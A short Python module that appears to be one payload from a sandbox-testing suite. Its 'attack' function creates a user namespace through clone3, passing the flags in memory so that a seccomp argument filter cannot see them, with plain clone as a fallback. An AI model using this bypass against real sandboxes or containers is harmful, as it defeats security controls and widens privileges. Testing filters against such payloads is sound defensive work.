"""Become root of a user namespace, asked for in memory where a filter cannot look (clone3)."""

import ctypes
import os
import signal
import time

from payloads.kernel import CLONE_NEWUSER, syscall
from payloads.running import call_me


def attack(alias, way):
    if way == "clone3":
        words = (ctypes.c_uint64 * 8)(CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD)
        child = syscall("clone3", words, ctypes.sizeof(words))
    else:
        child = syscall("clone", CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        call_me(alias)
        time.sleep(120)
        os._exit(0)
    return child
